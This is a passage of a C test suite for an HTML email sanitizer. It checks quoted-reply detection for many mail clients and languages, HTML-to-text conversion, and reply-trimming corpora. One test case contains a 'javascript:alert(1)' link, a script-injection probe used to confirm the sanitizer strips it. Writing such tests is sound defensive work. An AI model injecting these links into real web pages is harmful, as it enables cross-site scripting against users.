        {"email-mailgun-talon/OLK_SRC_BODY_SECTION.html", "Reply", "Hi"},
        {"email-mailgun-talon/reply-separated-by-hr.html", "Bob", "Hello"},
    };
    for (size_t i = 0; i < ARRAY_LEN(more); i++) {
        size_t len;
        char *html = read_data(more[i].file, &len);
        if (!html)
            continue;
        found++;
        sb_html_result r;
        sanitize_opts(html, len, NULL, &r);
        assert_true(r.has_quote);
        check_split(r.html, more[i].new_part, more[i].history);
        sb_html_result_release(&r);
        free(html);
    }
    if (!found)
        skip();
}

static void test_quotes_html_shapes(void **state)
{
    static const struct {
        const char *html, *new_part, *history;
    } cases[] = {
        /* Apple Mail / iOS */
        {"<div>Sounds good.</div><div><br><blockquote type=\"cite\">On 3 Apr 2012, at 16:19, bob wrote:<br>"
         "<div>Hi there</div></blockquote></div>",
         "Sounds good.", "Hi there"},
        /* attribution in its own element joins the wrapper */
        {"<p>New text</p><p>On Tuesday, April 3, 2012 at 4:55 PM, xxx wrote:</p>"
         "<blockquote type=\"cite\">Old text</blockquote>",
         "New text", "On Tuesday"},
        /* Gmail */
        {"<div dir=ltr>Thanks!</div><br><div class=\"gmail_quote\"><div dir=\"ltr\" class=\"gmail_attr\">"
         "On Mon, Apr 2, 2012 at 6:26 PM, Megan &lt;m@x.com&gt; wrote:<br></div><blockquote "
         "class=\"gmail_quote\">Earlier</blockquote></div>",
         "Thanks!", "Earlier"},
        /* Yahoo */
        {"<div>Yes</div><div id=\"yahoo_quoted_123\" class=\"yahoo_quoted\"><div>On Monday, bob wrote:"
         "</div><div>Question?</div></div>",
         "Yes", "Question?"},
        /* Outlook on the web */
        {"<div>Agreed</div><div id=\"appendonsend\"></div><hr style=\"display:inline-block;width:98%\">"
         "<div id=\"divRplyFwdMsg\" dir=\"ltr\"><b>From:</b> Bob<br><b>Sent:</b> Monday<br><b>To:</b> Al"
         "</div><div>Body of the original</div>",
         "Agreed", "Body of the original"},
        {"<div>Agreed</div><hr><div id=\"divRplyFwdMsg\"><b>From:</b> Bob</div><div>Original</div>",
         "Agreed", "Original"},
        /* Thunderbird */
        {"<p>Mine</p><div class=\"moz-cite-prefix\">On 26.06.2014 14:41, Al wrote:<br></div>"
         "<blockquote type=\"cite\" cite=\"mid:x@y\">Theirs</blockquote>",
         "Mine", "On 26.06.2014"},
        /* AOL */
        {"<font>Hello<br><br><div>-----Original Message-----<br>From: bob &lt;b@x.com&gt;<br>"
         "Sent: Mon<br>Subject: Test<br><br>Hi</div></font>",
         "Hello", "Original Message"},
        /* Zimbra / Comcast: hr then a header block */
        {"<div>Hello<br><br><hr id=\"zwchr\"><b>From: </b>bob@x.org<br><b>To: </b>me@x.org<br><b>Sent: </b>"
         "Monday<br><b>Subject: </b>Test<br><br>Hi<br></div>",
         "Hello", "Hi<br>"},
        /* Outlook desktop, localised */
        {"<div><p>Привет</p><div style=\"border:none;border-top:solid #E1E1E1 1.0pt;padding:3pt 0 0 0\">"
         "<p><b>От:</b> Иван<br><b>Отправлено:</b> 1 июня<br><b>Кому:</b> Петр<br><b>Тема:</b> Вопрос</p>"
         "</div><p>Старый текст</p></div>",
         "Привет", "Старый текст"},
        /* Outlook without a separator line */
        {"<p>Reply</p><p><b>Von:</b> Anna<br><b>Gesendet:</b> Montag<br><b>An:</b> Max<br><b>Betreff:</b> "
         "Frage</p><p>Alte Nachricht</p>",
         "Reply", "Alte Nachricht"},
        /* plain text attribution followed by a blockquote (mail.ru, Yandex) */
        {"<p>Ok</p>Thu, 26 Jun 2014 14:00:51 +0400 от Alexander &lt;abc@example.com&gt;:<br>"
         "<blockquote>Older</blockquote>",
         "Ok", "Older"},
    };
    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
        char *out = sanitize(cases[i].html);
        sb_html_result r = {.html = out};
        assert_non_null(strstr(out, "sb-quoted"));
        check_split(out, cases[i].new_part, cases[i].history);
        check_safe(out);
        assert_null(strstr(out, "gmail"));
        assert_null(strstr(out, "yahoo"));
        sb_html_result_release(&r);
    }
    /* has_quote follows the wrapper */
    sb_html_result r;
    const char *q = "<p>a</p><blockquote type=cite>b</blockquote>";
    sanitize_opts(q, strlen(q), NULL, &r);
    assert_true(r.has_quote);
    sb_html_result_release(&r);
    /* no history: no wrapper */
    static const char *const plain[] = {
        "<p>Just a message.</p><blockquote>A quotation I like.</blockquote><p>Bye</p>",
        "<p>From: the team</p><p>Thanks</p>",
        "<p>We wrote: this and that</p><hr><p>Second part</p>",
        "<div style=\"border-top:1px solid\">Section</div>",
    };
    for (size_t i = 0; i < ARRAY_LEN(plain); i++) {
        sanitize_opts(plain[i], strlen(plain[i]), NULL, &r);
        assert_false(r.has_quote);
        assert_null(strstr(r.html, "sb-quoted"));
        sb_html_result_release(&r);
    }
    /* history in a table cell stays inside the cell */
    const char *t = "<table><tr><td>New<div style=\"border-top:solid 1pt\">From: a<br>Sent: b<br>To: c</div>"
                    "<p>Old</p></td></tr><tr><td>Old row</td></tr></table>";
    sanitize_opts(t, strlen(t), NULL, &r);
    assert_true(r.has_quote);
    check_split(r.html, "New", "Old");
    assert_non_null(strstr(r.html, "<td>New<div class=\"sb-quoted\">"));
    check_markup(r.html);
    sb_html_result_release(&r);
}

/* ------------------------------------------------------------------------ */
/* Plain text from HTML                                                     */
/* ------------------------------------------------------------------------ */

static void test_to_text(void **state)
{
    static const struct {
        const char *html, *text;
    } cases[] = {
        {"<p>Hello <b>World</b></p><p>Second</p>", "Hello World\nSecond"},
        {"a<br>b<br><br>c", "a\nb\n\nc"},
        {"a<br><br><br><br><br><br>b", "a\n\n\nb"},
        {"<div>a</div><div></div><div></div><div>b</div>", "a\nb"},
        {"<ul><li>one</li><li>two <i>2</i></li></ul>after", "- one\n- two 2\nafter"},
        {"<a href=\"https://x.org/page\">click here</a>", "click here <https://x.org/page>"},
        {"see <a href=\"https://x.org/\">https://x.org/</a> now", "see https://x.org/ now"},
        {"<a href=\"https://x.org/\">https://x.org</a>", "https://x.org"},
        {"<a href=\"mailto:a@b.org\">a@b.org</a>", "a@b.org"},
        {"<a href=\"javascript:alert(1)\">js</a> <a href=\"#x\">frag</a>", "js frag"},
        {"<a href=\"https://x.org/\"><img src=x></a>", ""},
        {"<html><head><title>T</title><style>p{color:red}</style><script>var a;</script></head>"
         "<body>Body</body></html>",
         "Body"},
        {"x<noscript>n</noscript><template>t</template><svg><text>s</text></svg>y", "xy"},
        {"&amp; &lt; &eacute; &nbsp; &#x263A; &#128512;", "& < \xC3\xA9 \xE2\x98\xBA \xF0\x9F\x98\x80"},
        {"  lots   of\n\n\twhite   space  ", "lots of white space"},
        {"<pre>  keep\n    this\n</pre>after", "  keep\n    this\nafter"},
        {"<table><tr><td>a</td><td>b</td></tr><tr><td>c</td><td>d</td></tr></table>", "a b\nc d"},
        {"<h1>Title</h1>text<hr>more", "Title\ntext\nmore"},
        {"", ""},
        {"<p>caf\xE9</p>", "caf\xEF\xBF\xBD"},
    };
    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
        char *t = sb_html_to_text(cases[i].html, strlen(cases[i].html));
        assert_non_null(t);
        if (strcmp(t, cases[i].text) != 0)
            fail_msg("case %zu: got [%s], want [%s]", i, t, cases[i].text);
        free(t);
    }
    char *t = sb_html_to_text(NULL, 0);
    assert_string_equal(t, "");
    free(t);
    /* Outlook's header lines survive as lines, so plain-text quote detection sees them */
    size_t len;
    char *html = read_data("email-mailgun-talon/html_replies/ms_outlook_2010.html", &len);
    if (html) {
        t = sb_html_to_text(html, len);
        assert_non_null(strstr(t, "Alex\nFrom: Foo [mailto:foo@bar.com] On Behalf Of baz@bar.com\nSent:"));
        size_t q = sb_text_quote_start(t);
        assert_true(q < strlen(t));
        assert_memory_equal(t + q, "From:", 5);
        free(t);
        free(html);
    }
}

/* ------------------------------------------------------------------------ */
/* Quoted history in plain text                                             */
/* ------------------------------------------------------------------------ */

/* What a timeline shows: the text before the quote (all of it when the quote starts at 0). */
static char *new_part(const char *text)
{
    size_t q = sb_text_quote_start(text);
    assert_true(q <= strlen(text));
    return strndup(text, q ? q : strlen(text));
}

/* CRLF to LF, trailing blanks on each line and leading/trailing blank lines removed. */
static char *normalize(const char *s)
{
    size_t n = strlen(s);
    char *o = malloc(n + 1);
    assert_non_null(o);
    size_t len = 0;
    const char *p = s;
    while (*p) {
        const char *e = strchr(p, '\n');
        size_t l = e ? (size_t)(e - p) : strlen(p);
        while (l && (p[l - 1] == ' ' || p[l - 1] == '\t' || p[l - 1] == '\r'))
            l--;
        if (l || len) {
            memcpy(o + len, p, l);
            len += l;
            o[len++] = '\n';
        }
        p = e ? e + 1 : p + strlen(p);
    }
    while (len && o[len - 1] == '\n')
        len--;
    o[len] = '\0';
    return o;
}

static const struct {
    const char *text, *expect;
} quote_cases[] = {
    {"Thanks!\n\nOn Mon, Apr 2, 2012 at 6:26 PM, Megan One <m@x.com> wrote:\n\n> Hi\n", "Thanks!"},
    {"Thanks!\r\n\r\nOn Mon, Apr 2, 2012 at 6:26 PM, Megan One <m@x.com>\r\nwrote:\r\n\r\n> Hi\r\n", "Thanks!"},
    {"Fine\n\n-----Original Message-----\nFrom: bob\nSent: Mon\nSubject: Test\n\nHi\n", "Fine"},
    {"Fine\n----- Original Message -----\nFrom: a\nTo: b\n", "Fine"},
    {"Ok\n\nFrom: Bob <b@x.com>\nSent: Monday, 1 June\nTo: Al\nSubject: Re: x\n\nold\n", "Ok"},
    {"Ok\n________________________________\nFrom: Bob\n\nold\n", "Ok"},
    {"Ok\n\n*From:* Bob\n*Sent:* Monday\n*To:* Al\n", "Ok"},
    {"Ok\n\n> quoted 1\n> quoted 2\n", "Ok"},
    {"Ok\n\n> quoted\n>\n> more\n\n-- \nBob\n", "Ok"},
    {"Ok\n\nпонедельник, 6 октября 2014 г. пользователь lidel написал:\n\n> x\n", "Ok"},
    {"Ok\n\n20 окт. 2016 г. 19:37 пользователь \"R\" <\nr@x.com> написал(а):\n\n> x\n", "Ok"},
    {"Ok\n\n6 жовт. 2016 р. 19:37 \"R\" <r@x.com> пише:\n\n> x\n", "Ok"},
    {"Ok\n\n6 жовтня 2016 р. Іван написав:\n\n> x\n", "Ok"},
    {"Ok\n\nAm 03.02.2016 3:35 nachm. schrieb Max <m@x.de>:\n\n> x\n", "Ok"},
    {"Ok\n\nLe 4 janv. 2016 19:03, \"Neil\"\n<n@x.com>\na écrit :\n\n> x\n", "Ok"},
    {"Ok\n\nEl jueves, 21 de noviembre de 2013, codinghorror escribió:\n\n> x\n", "Ok"},
    {"Ok\n\nOp 16 aug. 2014 05:13 schreef \"c\" <c@x.org> het\nvolgende geschreven:\n\n> x\n", "Ok"},
    {"Ok\n\n23 mar 2017 21:25 \"Neil\" <n@x.com> napisał(a):\n\n> x\n", "Ok"},
    {"Ok\n\nEm 2 de fevereiro de 2015 10:58, discourse <\ninfo@x.org> escreveu:\n\n> x\n", "Ok"},
    {"Ok\n\nDen 15. jun. 2016 kl. 20.42 skrev Jeff <j@x.org>:\n\n> x\n", "Ok"},
    {"Ok\n\nIl 26 marzo 2016 alle 13.16 Sam <s@x.org> ha scritto:\n\n> x\n", "Ok"},
    {"Ok\n\n在 2016年12月12日，下午8:45，Erlend <e@x.com> 写道：\n\n> x\n", "Ok"},
    {"Ok\n\nFrån: Foo [mailto:n@x.org]\nSkickat: den 5 juni 2017 12:22\nTill: s@x.com\nÄmne: Photos\n\nold",
     "Ok"},
    {"Ok\n\n-----Ursprüngliche Nachricht-----\nVon: A\n", "Ok"},
    {"Ok\n\nSent from my iPhone\n\nOn Apr 3, 2012, at 4:19 PM, bob <b@x.com> wrote:\n\n> Hi\n", "Ok"},
    {"Ok\n\n--\nŁukasz\n\nDnia 14 lip 2015 o godz. 00:25 M <m@x.org> napisał(a):\n\n> x\n", "Ok"},
    {"Ok\n\n---------- Forwarded message ---------\nFrom: A <a@x.org>\n", "Ok"},
    {"Ok\n\n2016-10-24 15:36 GMT+02:00 Foo bar <\ninfo@foo.bar>:\n\n> x\n", "Ok"},
    /* no history */
    {"I wrote: this is fine.\nOn Monday we met.\n", "I wrote: this is fine.\nOn Monday we met."},
    {"Here is what my colleague wrote:\n\nsomething\n", "Here is what my colleague wrote:\n\nsomething"},
    {"From: the sales team\nWe offer things.\n", "From: the sales team\nWe offer things."},
    {"> a quote first\n\nthen my answer\n", "> a quote first\n\nthen my answer"},
    {"On this day\n\nI wrote something\n\nwhich was interesting.\n\nOn 28 Jan 2016, at 19:04, A wrote:\n\n> x",
     "On this day\n\nI wrote something\n\nwhich was interesting."},
    /* an inline reply keeps its answers */
    {"Hi\nOn Tue, 2011-03-01 at 18:02 +0530, A wrote:\n> question 1\n\nanswer 1\n\n> question 2\n\nanswer 2\n",
     "Hi\nOn Tue, 2011-03-01 at 18:02 +0530, A wrote:\n> question 1\n\nanswer 1\n\n> question 2\n\nanswer 2"},
    /* all history: the whole text (sb_text_quote_start returns 0) */
    {"> only a quote\n", "> only a quote"},
    {"---------- Forwarded message ----------\nFrom: A <a@x.org>\nDate: Thu\nSubject: S\nTo: b@x.org\n\nBody\n",
     "---------- Forwarded message ----------\nFrom: A <a@x.org>\nDate: Thu\nSubject: S\nTo: b@x.org\n\nBody"},
    {"", ""},
};

static void test_quote_cases(void **state)
{
    for (size_t i = 0; i < ARRAY_LEN(quote_cases); i++) {
        char *got = new_part(quote_cases[i].text);
        char *g = normalize(got), *e = normalize(quote_cases[i].expect);
        if (strcmp(g, e) != 0)
            fail_msg("case %zu: got [%s], want [%s]", i, g, e);
        free(got);
        free(g);
        free(e);
    }
    assert_int_equal(sb_text_quote_start("> all quoted\n> still\n"), 0);
    assert_int_equal(sb_text_quote_start("no quote"), 8);
    assert_int_equal(sb_text_quote_start(NULL), 0);
    const char *t = "Yes\nOn 1 May 2020, A <a@x.org> wrote:\n> x";
    assert_int_equal(sb_text_quote_start(t), 4);
}

/* Mailgun talon's standard replies (text/plain bodies, decoded). */
static void test_quote_talon_replies(void **state)
{
    static const struct {
        const char *name, *text, *expect;
    } cases[] = {
        {"apple_mail", "Hello\n\nOn Apr 3, 2012, at 4:19 PM, bob wrote:\n\n> Hi\n", "Hello"},
        {"apple_mail_2", "Hello\n> On 22 Aug 2015, at 19:21, Adam Renberg <tgwizard@gmail.com> wrote:\n>\n> Hi there!\n",
         "Hello"},
        {"gmail", "Hello\n\nOn Mon, Apr 2, 2012 at 6:26 PM, Megan One <xxx@gmail.com> wrote:\n\n> Hi\n", "Hello"},
        {"android", "Hello\n02.04.2012 14:20 пользователь \"bob@xxx.mailgun.org\" <\nbob@xxx.mailgun.org> написал:\n\n> Hi\n>\n\n",
         "Hello"},
        {"aol", "Hello\n\n\n\n-----Original Message-----\nFrom: bob <bob@example.com>\nTo: xxx <xxx@gmail.com>\n"
                "Sent: Mon, Apr 2, 2012 5:49 pm\nSubject: Test\n\n\nHi\n\n \n",
         "Hello"},
        {"comcast", "Hello \n\n----- Original Message -----\nFrom: bob@xxx.mailgun.org \nTo: xxx@gmail.com \n"
                    "Sent: Monday, April 2, 2012 5:44:22 PM \nSubject: Test \n\nHi \n",
         "Hello"},
        {"hotmail", "\nHello\n\n> Subject: Test\n> From: bob@xxx.mailgun.org\n> To: xxx@gmail.com\n> Date: Mon, 2 Apr 2012 "
                    "17:44:22 +0400\n> \n> Hi\n \t\t \t   \t\t  \n",
         "Hello"},
        {"iphone", "Hello\n\nSent from my iPhone\n\nOn Apr 3, 2012, at 4:19 PM, bob <bob@example.com> wrote:\n\n> Hi\n",
         "Hello"},
        {"outlook", "Hello\n\nFrom: xxx@xxx.mailgun.org [mailto:xxx@xxx.mailgun.org]\nSent: March-09-12 4:22 PM\n"
                    "To: Dan Le\nSubject: The manager has commented on your Loop\n\nHi dan.le@example.com,\n",
         "Hello"},
        {"sparrow", "Hello \n\n-- \nxxx\nSent with Sparrow (http://www.sparrowmailapp.com/?sig)\n\n\n"
                    "On Tuesday, April 3, 2012 at 4:55 PM, xxx wrote:\n\n> Hello\n> \n> On Apr 3, 2012, at 4:19 PM, bob wrote:\n",
         "Hello"},
        {"thunderbird", "On 04/02/2012 06:26 PM, Megan One wrote:\n> Hi \nHello\n",
         "On 04/02/2012 06:26 PM, Megan One wrote:\n> Hi\nHello"},
        {"yahoo", "Hello\n\n\n----- Original Message -----\nFrom: \"bob@xxx.mailgun.org\" <bob@xxx.mailgun.org>\n"
                  "To: xxx@gmail.com\nCc: \nSent: Monday, April 2, 2012 5:44 PM\nSubject: Test\n\nHi\n",
         "Hello"},
    };
    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
        char *got = new_part(cases[i].text);
        char *g = normalize(got), *e = normalize(cases[i].expect);
        if (strcmp(g, e) != 0)
            fail_msg("%s: got [%s], want [%s]", cases[i].name, g, e);
        free(got);
        free(g);
        free(e);
    }
}

/* The Discourse reply-trimmer corpus: emails/X against trimmed/X. Their trimmer also drops
 * signatures at the end of a message and quotes at the top of one (keeping the text under
 * them), which a single "history starts here" offset does not express: 53 of 64 match. */
#define DISCOURSE_MIN_SHARE 0.80

static const char *const discourse_exact[] = {
    "dual_embedded.txt", "email_headers_1.txt", "email_headers_2.txt", "email_headers_4.txt",
    "embedded_email_12.txt", "embedded_email_14.txt", "embedded_email_2.txt",
    "embedded_email_chinese.txt", "embedded_email_dutch_2.txt", "embedded_email_german_4.txt",
    "embedded_email_russian_2.txt", "embedded_email_spanish_2.txt", "embedded_email_swedish.txt",
    "embedded_email_polish_1.txt", "forwarded_gmail.txt", "quote_and_text.txt", "spam_2.txt",
};

static void test_quote_discourse_corpus(void **state)
{
    char *dir = data_path("email-reply-trimmer-discourse/emails");
    DIR *d = opendir(dir);
    if (!d) {
        free(dir);
        skip();
    }
    size_t total = 0, matched = 0;
    char names[128][64];
    bool match[128];
    struct dirent *e;
    while ((e = readdir(d)) != NULL) {
        if (e->d_name[0] == '.' || total >= 128 || strlen(e->d_name) >= 64)
            continue;
        char rel[256];
        snprintf(rel, sizeof rel, "email-reply-trimmer-discourse/emails/%s", e->d_name);
        char *text = read_data(rel, NULL);
        snprintf(rel, sizeof rel, "email-reply-trimmer-discourse/trimmed/%s", e->d_name);
        char *want = read_data(rel, NULL);
        if (!text || !want) {
            free(text);
            free(want);
            continue;
        }
        char *got = new_part(text);
        char *g = normalize(got), *w = normalize(want);
        strcpy(names[total], e->d_name);
        match[total] = strcmp(g, w) == 0;
        matched += match[total];
        total++;
        free(text);
        free(want);
        free(got);
        free(g);
        free(w);
    }
    closedir(d);
    free(dir);
    assert_true(total >= 60);
    double share = (double)matched / (double)total;
    print_message("discourse corpus: %zu of %zu replies trimmed as expected (%.1f%%)\n", matched, total,
                  share * 100);
    assert_true(share >= DISCOURSE_MIN_SHARE);
    for (size_t i = 0; i < ARRAY_LEN(discourse_exact); i++) {
        bool seen = false;
        for (size_t k = 0; k < total; k++) {
            if (strcmp(names[k], discourse_exact[i]) != 0)
                continue;
            seen = true;
            if (!match[k])
                fail_msg("%s does not match its trimmed text", names[k]);
        }
        assert_true(seen);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_xss_battery),
        cmocka_unit_test(test_xss_null_bytes),
        cmocka_unit_test(test_xss_in_context),
        cmocka_unit_test(test_text_is_escaped),
        cmocka_unit_test(test_elements),
        cmocka_unit_test(test_styles),
        cmocka_unit_test(test_links),
        cmocka_unit_test(test_remote_images_and_cid),
        cmocka_unit_test(test_max_output),
        cmocka_unit_test(test_deep_nesting),
        cmocka_unit_test(test_pathological_shapes),
        cmocka_unit_test(test_ordinary_markup_kept),
        cmocka_unit_test(test_quotes_talon_html),
        cmocka_unit_test(test_quotes_html_shapes),
        cmocka_unit_test(test_to_text),
        cmocka_unit_test(test_quote_cases),
        cmocka_unit_test(test_quote_talon_replies),
        cmocka_unit_test(test_quote_discourse_corpus),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
